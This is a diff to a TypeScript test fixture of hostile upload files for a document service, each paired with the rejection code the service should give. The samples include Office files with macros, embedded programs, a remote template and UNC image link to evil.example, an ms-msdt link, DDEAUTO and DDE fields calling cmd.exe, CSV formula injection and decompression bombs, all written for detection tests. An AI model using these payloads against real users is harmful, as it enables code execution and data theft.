@@ -1,10 +1,14 @@
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
+import type { UploadUse } from '#api/uploads.ts'
+import { fileTypes } from '../../platform/files/file-store.ts'
 import { jpeg, png } from '../../users/testing/pictures.ts'
+import { doc, docx, docxParts, relation, relationsPart, wordText, workbookStream, xls, xlsx, zipOf } from './office-files.ts'
 
 export interface HostileFile {
   what: string
   name: string
   type: string
+  use?: UploadUse
   bytes: Buffer
   /** What the service says to it; `kept` when it is harmless once something is gone. */
   answer: string
@@ -60,6 +64,137 @@ const byName = (what: string, name: string, answer: string, keptAs?: string): Ho
   answer,
   ...(keptAs && { keptAs }),
 })
+
+type OfficeKind = 'csv' | 'doc' | 'docx' | 'xls' | 'xlsx'
+const ofRequest = (kind: OfficeKind, what: string, bytes: Buffer, answer: string): HostileFile => ({
+  what,
+  name: `ementa.${kind}`,
+  type: fileTypes[kind],
+  use: 'request',
+  bytes,
+  answer,
+})
+const [ole, program] = [Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.from('MZ\x90\0', 'latin1')]
+const linked = (kind: string, target: string) =>
+  docx({ parts: [relationsPart('word/_rels/document.xml.rels', relation(kind, target, 'External'))] })
+const within = (name: string, content: Buffer) => docx({ parts: [{ name, content }] })
+const wordType = (name: string, type: string) => `<Override PartName="/${name}" ContentType="application/${type}"/>`
+const nested = (depth: number): Buffer => within('word/embeddings/a.docx', depth === 0 ? docx() : nested(depth - 1))
+
+const officeFiles: HostileFile[] = [
+  ofRequest('docx', 'a document with macros', within('word/vbaProject.bin', ole), 'FILE_ACTIVE'),
+  ofRequest('docx', 'macros by another name', within('word/media/image1.png', ole), 'FILE_ACTIVE'),
+  ofRequest(
+    'docx',
+    'macros that only their type tells',
+    docx({ types: wordType('word/a.xml', 'vnd.ms-office.vbaProject'), parts: [{ name: 'word/a.xml', content: '<a/>' }] }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest(
+    'docx',
+    'a document for macros by the name of one without',
+    docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest('docx', 'a document with a program', within('word/embeddings/oleObject1.bin', ole), 'FILE_ACTIVE'),
+  ofRequest('docx', 'a program by the name of a picture', within('word/media/image1.png', program), 'FILE_ACTIVE'),
+  ofRequest('docx', 'a document with a control', within('word/activeX/activeX1.xml', Buffer.from('<a/>')), 'FILE_ACTIVE'),
+  ofRequest(
+    'docx',
+    'a document whose table has macros',
+    within('word/embeddings/a.xlsx', xlsx({ parts: [{ name: 'xl/vbaProject.bin', content: ole }] })),
+    'FILE_ACTIVE',
+  ),
+  ofRequest('docx', 'documents in documents', nested(3), 'FILE_ACTIVE'),
+  ofRequest(
+    'docx',
+    'a document that gets its template from elsewhere',
+    linked('attachedTemplate', 'https://evil.example/a.dotm'),
+    'FILE_ACTIVE',
+  ),
+  ofRequest('docx', 'a document whose picture tells who opens it', linked('image', String.raw`\\evil.example\a.png`), 'FILE_ACTIVE'),
+  ofRequest('docx', 'a link that starts a program', linked('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'FILE_ACTIVE'),
+  ofRequest(
+    'docx',
+    'a page within a document',
+    docx({ parts: [relationsPart('word/_rels/document.xml.rels', relation('aFChunk', 'a.txt'))] }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest(
+    'docx',
+    'a field that asks another program, in pieces',
+    docx({ body: '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText>' }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest(
+    'docx',
+    'a document that opens with a password',
+    doc(wordText(), { name: 'EncryptedPackage', content: Buffer.alloc(9) }),
+    'FILE_LOCKED',
+  ),
+  ofRequest(
+    'docx',
+    'a document with an entry that has a password',
+    zipOf([...docxParts(), { name: 'a.xml', content: '<a/>', lie: { flags: 1 } }]),
+    'FILE_LOCKED',
+  ),
+  ofRequest('docx', 'an archive by the name of a document of Word', zip(Buffer.from('x')), 'FILE_TYPE'),
+  ofRequest('docx', 'a workbook by the name of a document', xlsx(), 'FILE_TYPE'),
+  ofRequest('docx', 'a document with a program in front', Buffer.concat([program, docx()]), 'FILE_TYPE'),
+  ofRequest(
+    'docx',
+    'a document that swells a thousandfold',
+    docx({ parts: [{ name: 'word/a.xml', content: '<a/>', lie: { size: 160_000_000 } }] }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest(
+    'docx',
+    'a document that swells further than it says',
+    docx({ parts: [{ name: 'word/media/a.png', content: Buffer.alloc(3_000_000), lie: { size: 10 } }] }),
+    'FILE_TYPE',
+  ),
+  ofRequest(
+    'docx',
+    'entities that swell',
+    docx({ body: Buffer.from('<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><w:document>&c;</w:document>') }),
+    'FILE_TYPE',
+  ),
+  ofRequest(
+    'xlsx',
+    'a workbook with macros of 1992',
+    xlsx({ parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest(
+    'xlsx',
+    'a workbook that asks another program',
+    xlsx({
+      types: wordType('xl/a.xml', 'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'),
+      parts: [{ name: 'xl/a.xml', content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }],
+    }),
+    'FILE_ACTIVE',
+  ),
+  ofRequest('doc', 'a document of 2003 with macros', doc(wordText(), { name: 'Macros' }, { name: 'VBA' }), 'FILE_ACTIVE'),
+  ofRequest('doc', 'a document of 2003 with a file within', doc(wordText(), { name: 'ObjectPool', hasChildren: true }), 'FILE_ACTIVE'),
+  ofRequest('doc', 'a field of 2003 that asks another program', doc(wordText('\x13 D\0D\0E\0AUTO cmd')), 'FILE_ACTIVE'),
+  ofRequest('doc', 'a document of 2003 that opens with a password', doc(wordText('', 0x100)), 'FILE_LOCKED'),
+  ofRequest('doc', 'a text of another kind by the name of a document', Buffer.from(String.raw`{\rtf1{\object\objdata 01}}`), 'FILE_TYPE'),
+  ofRequest('doc', 'a workbook of 2003 by the name of a document', xls(), 'FILE_TYPE'),
+  ofRequest('xls', 'a workbook of 2003 with macros', xls(workbookStream(), { name: '_VBA_PROJECT_CUR' }), 'FILE_ACTIVE'),
+  ofRequest('xls', 'a workbook of 2003 with a hidden sheet of macros', xls(workbookStream([0, 1])), 'FILE_ACTIVE'),
+  ofRequest(
+    'xls',
+    'a workbook of 2003 that opens with a password',
+    xls(workbookStream([0], { type: 0x2f, body: Buffer.alloc(6) })),
+    'FILE_LOCKED',
+  ),
+  ofRequest('xls', 'a page by the name of a workbook', Buffer.from('<html><table><tr><td>=cmd()</td></tr></table></html>'), 'FILE_TYPE'),
+  ofRequest('csv', 'a program by the name of a table', join(program, Buffer.alloc(500)), 'FILE_TYPE'),
+  ofRequest('csv', 'a page by the name of a table', Buffer.from(` ${script}`), 'FILE_TYPE'),
+  ofRequest('csv', 'a table with a NUL', Buffer.from('a;b\0;c'), 'FILE_TYPE'),
+  ofRequest('csv', 'a table with formulas', Buffer.from(`=cmd|'/c calc'!A0;@x`), 'kept'),
+  { ...ofRequest('docx', 'a document of Word for an enrollment', docx(), 'FILE_TYPE'), use: 'document' },
+]
 
 export const hostileFiles: HostileFile[] = [
   asPdf('a page by the name of a document', Buffer.from(`<html>${script}</html>`), 'FILE_TYPE'),
@@ -120,5 +255,6 @@ export const hostileFiles: HostileFile[] = [
   byName('a name from another system', String.raw`C:\Windows\system.pdf`, 'kept', 'system.pdf'),
   byName('a name with lines of their own', 'a\r\nset-cookie: x=1.pdf', 'kept', 'aset-cookie: x=1.pdf'),
   byName('a name of 255 bytes', `${'a'.repeat(251)}.pdf`, 'kept', `${'a'.repeat(196)}.pdf`),
+  ...officeFiles,
   byName('a name of markup', '<img src=x onerror=alert(1)>.pdf', 'kept', '<img src=x onerror=alert(1)>.pdf'),
 ]
